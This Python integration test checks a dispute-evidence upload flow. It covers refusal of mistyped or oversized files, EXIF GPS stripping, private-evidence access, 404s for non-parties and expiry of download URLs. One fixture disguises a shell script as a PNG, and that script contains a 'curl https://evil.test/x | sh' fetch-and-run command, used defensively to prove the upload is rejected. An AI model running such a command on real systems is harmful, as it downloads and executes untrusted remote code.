"""Acceptance 3 of issue 14, black-box through a dispute with evidence, on the moto S3 server and
on the local disk store: an evidence upload of the wrong real type (a PNG header on a script) or
over the evidence size cap is refused; EXIF GPS is gone from the stored photo the other party
downloads; a download URL expires; a non-party gets 404 for the dispute, its entries and its
files; private evidence is read by its author and admins only."""

from __future__ import annotations

import io
import os
from datetime import timedelta
from typing import Any

import pytest
from PIL import Image

from domain.shared import clock
from tests.support.bookings import build_market
from tests.support.disputes import add_entry, get_dispute, open_dispute, paid_booking
from tests.support.media import declaration, fetch, jpeg_with_gps, png, s3_settings, upload
from tests.support.payments import FAST

pytestmark = pytest.mark.integration
CAP = 100_000  # the evidence kind's cap in bytes (media's per-kind caps: MEDIA_MAX_BYTES)
TTL = 60


@pytest.fixture(params=["s3", "local"])
async def client(request: pytest.FixtureRequest, make_client: Any, services: Any, tmp_path: Any) -> Any:
    store = s3_settings(services.s3_endpoint) if request.param == "s3" else {"media_local_dir": str(tmp_path)}
    made = await make_client(**FAST, **store, media_max_bytes={"evidence": CAP}, media_download_ttl_seconds=TTL)
    made.store = request.param
    return made


async def link(client: Any, who: Any, upload_id: str) -> Any:
    return await client.get(f"/v1/uploads/{upload_id}/download", headers=who.headers)


async def test_a_dispute_with_evidence_walks_acceptance_3(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    m = await build_market(client)
    booking, _ = await paid_booking(client, m)
    dispute = await open_dispute(client, m.customer, booking["id"])
    entries = f"/v1/disputes/{dispute['id']}/entries"

    # The wrong real type: refused at confirmation, so it can never become evidence.
    script = b"\x89PNG\r\n\x1a\n#!/bin/sh\ncurl https://evil.test/x | sh\n"
    refused = await upload(client, m.customer, script, "image/png")
    assert refused.status == 422 and (await refused.json())["errors"][0]["type"] == "not_an_image"
    rejected_id = refused.url.parts[3]
    named = await client.post(entries, headers=m.customer.headers, json={"body": "x", "upload_ids": [rejected_id]})
    assert named.status == 422
    # Over the evidence cap: refused when declared, and when the bytes outgrow the declaration.
    big = _noise(CAP + 1)
    declared = await client.post("/v1/uploads", headers=m.customer.headers, json=declaration(big, "image/png"))
    assert declared.status == 422 and (await declared.json())["errors"][0]["type"] == "too_large"

    # A photo with EXIF GPS, shared evidence: the other party downloads it without its metadata.
    photo = await (await upload(client, m.customer, jpeg_with_gps(), "image/jpeg")).json()
    shared = await add_entry(client, m.customer, dispute["id"], body="the leak", upload_ids=[photo["id"]])
    assert shared["upload_ids"] == [photo["id"]]
    url = (await (await link(client, m.provider, photo["id"])).json())["url"]
    status, stored = await fetch(client, url)
    assert status == 200
    kept = Image.open(io.BytesIO(stored))
    assert kept.size == (64, 48) and not kept.getexif(), "EXIF (GPS, camera make) is gone from the stored photo"
    assert b"FieldCam" not in stored

    # Private evidence: its author and admins read it; the other party does not learn it exists.
    notes = await (await upload(client, m.customer, png(), "image/png")).json()
    await add_entry(client, m.customer, dispute["id"], body="my notes", shared=False, upload_ids=[notes["id"]])
    for who, expected in ((m.customer, 200), (m.admin, 200), (m.provider, 404), (m.crew[0], 404)):
        assert (await link(client, who, notes["id"])).status == expected
        assert (await client.get(f"/v1/uploads/{notes['id']}", headers=who.headers)).status == expected

    # A non-party: 404 for the dispute, its entries and its files.
    outsider = m.outsider
    assert (await client.get(f"/v1/disputes/{dispute['id']}", headers=outsider.headers)).status == 404
    assert (await client.get(entries, headers=outsider.headers)).status == 404
    assert (await client.post(entries, headers=outsider.headers, json={"body": "me too"})).status == 404
    for upload_id in (photo["id"], notes["id"]):
        assert (await link(client, outsider, upload_id)).status == 404
        assert (await client.get(f"/v1/uploads/{upload_id}", headers=outsider.headers)).status == 404
    assert [e["seq"] for e in (await get_dispute(client, m.provider, dispute["id"]))["timeline"]] == [1, 2]

    # The download URL expires.
    if client.store == "s3":  # moto does not check expiry; S3 enforces X-Amz-Expires
        assert f"X-Amz-Expires={TTL}" in url and "X-Amz-Signature=" in url
    else:
        later = clock.utcnow() + timedelta(seconds=TTL + 1)
        monkeypatch.setattr(clock, "utcnow", lambda: later)
        assert (await fetch(client, url))[0] == 403


def _noise(at_least: int) -> bytes:
    """A PNG of random pixels (it does not compress) of at least `at_least` bytes."""
    side = 64
    while True:
        out = io.BytesIO()
        Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(out, format="PNG")
        if len(out.getvalue()) >= at_least:
            return out.getvalue()
        side *= 2
